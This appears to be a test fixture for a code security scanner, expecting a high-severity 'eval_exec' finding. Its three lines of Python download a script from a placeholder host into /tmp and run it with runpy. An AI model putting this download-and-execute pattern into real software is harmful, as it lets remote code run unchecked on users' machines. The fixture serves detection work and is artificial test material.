# expect: python.eval_exec high
# note: a download written to a file, then run as a module
# path: app/urlretrieve_run_path.py
import runpy, urllib.request
urllib.request.urlretrieve("https://get.example.net/x.py", "/tmp/x.py")
runpy.run_path("/tmp/x.py")
